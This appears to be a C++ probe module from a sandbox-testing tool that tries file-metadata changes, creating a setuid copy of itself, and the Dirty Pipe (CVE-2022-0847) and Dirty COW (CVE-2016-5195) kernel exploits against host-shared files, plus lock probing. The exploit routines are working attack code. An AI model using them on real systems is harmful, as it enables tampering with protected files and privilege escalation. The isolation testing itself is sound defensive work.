#include <fcntl.h>
#include <fmt/core.h>
#include <linux/fs.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <atomic>
#include <cstring>
#include <filesystem>
#include <thread>

#include "probe/attack.h"

namespace cloche::probe {
namespace {

// Words: files. Landlock never looks at any of this; only the mount does.
void ChangeMetadata(Attempt& attempt) {
  for (const std::string& path : attempt.words) {
    const int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    const std::string again = fmt::format("/proc/self/fd/{}", fd), other = path + "-link";
    const timespec times[2] = {{1, 0}, {1, 0}};
    int flags = FS_NOATIME_FL;
    attempt.Try("chmod", chmod(path.c_str(), 0777));
    attempt.Try("fchmod", fchmod(fd, 0777));
    attempt.Try("chown", chown(path.c_str(), getuid(), getgid()));
    attempt.Try("fchown", fchown(fd, getuid(), getgid()));
    attempt.Try("utimensat", utimensat(AT_FDCWD, path.c_str(), times, 0));
    attempt.Try("futimens", futimens(fd, times));
    attempt.Try("setxattr", setxattr(path.c_str(), "user.probe", "x", 1, 0));
    attempt.Try("fsetxattr", fsetxattr(fd, "user.probe", "x", 1, 0));
    attempt.Try("FS_IOC_SETFLAGS", ioctl(fd, FS_IOC_SETFLAGS, &flags));
    attempt.Try("truncate", truncate(path.c_str(), 1));
    attempt.Try("link", link(path.c_str(), other.c_str()));
    attempt.Try("rename", rename(path.c_str(), other.c_str()));
    attempt.Try("reopen for writing", open(again.c_str(), O_WRONLY | O_CLOEXEC));
    attempt.Try(
        "shared writable map",
        mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0);
    close(fd);
  }
}

// Words: a path. A program there that runs as its owner for everybody.
void MakeSetUserId(Attempt& attempt) {
  std::error_code error;
  std::filesystem::copy_file("/proc/self/exe", attempt.words[0], error);
  attempt.Set("made", chmod(attempt.words[0].c_str(), 06755) == 0);
}

// CVE-2022-0847: a pipe that still counts as mergeable writes into the file's page.
void DirtyPipe(int file) {
  int ends[2];
  if (pipe2(ends, O_CLOEXEC) != 0) return;
  const int size = fcntl(ends[1], F_GETPIPE_SZ);
  std::string page(4096, 'p');
  for (int left = size; left > 0; left -= 4096) (void)!write(ends[1], page.data(), page.size());
  for (int left = size; left > 0; left -= 4096) (void)!read(ends[0], page.data(), page.size());
  off64_t offset = 0;
  if (splice(file, &offset, ends[1], nullptr, 1, 0) > 0) (void)!write(ends[1], "!dirty!", 7);
  close(ends[0]);
  close(ends[1]);
}

// CVE-2016-5195: a private page thrown away between the fault and the write.
void DirtyCow(int file) {
  void* map = mmap(nullptr, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  const int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
  std::atomic<bool> done = false;
  std::thread discard([&] {
    while (!done) madvise(map, 4096, MADV_DONTNEED);
  });
  for (int i = 0; i < 20000; ++i) (void)!pwrite(memory, "!cow!", 5, reinterpret_cast<off_t>(map));
  done = true;
  discard.join();
  close(memory);
  munmap(map, 4096);
}

// Words: files whose pages we share with the host.
void PageCache(Attempt& attempt) {
  for (const std::string& path : attempt.words) {
    const int file = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (file < 0) continue;
    DirtyPipe(file);
    DirtyCow(file);
    close(file);
    attempt.Refused();
  }
}

struct flock WholeFile(short type) {
  struct flock whole {};
  whole.l_type = type;
  return whole;
}

// Words: files that others have, too. Holds a lock of each kind on them.
void HoldLocks(Attempt& attempt) {
  for (const std::string& path : attempt.words) {
    const int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    struct flock shared = WholeFile(F_RDLCK), of_file = shared;
    attempt.Try("flock", flock(fd, LOCK_EX | LOCK_NB));
    attempt.Try("lockf", fcntl(fd, F_SETLK, &shared));
    attempt.Try("lock of an open file", fcntl(fd, F_OFD_SETLK, &of_file));
  }
  attempt.ReadyAndHold();
}

// Whether another process holds one.
void FindLocks(Attempt& attempt) {
  for (const std::string& path : attempt.words) {
    const int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    struct flock other = WholeFile(F_WRLCK);
    if (flock(fd, LOCK_EX | LOCK_NB) != 0) attempt.Got("flock of " + path);
    if (fcntl(fd, F_GETLK, &other) == 0 && other.l_type != F_UNLCK) attempt.Got("lock of " + path);
    attempt.Refused();
    close(fd);
  }
}

constexpr Attack kAttacks[] = {{"change-metadata", ChangeMetadata},
                               {"make-set-user-id", MakeSetUserId},
                               {"page-cache", PageCache},
                               {"hold-locks", HoldLocks},
                               {"find-locks", FindLocks}};

}  // namespace

std::span<const Attack> GrantAttacks() { return kAttacks; }

}  // namespace cloche::probe
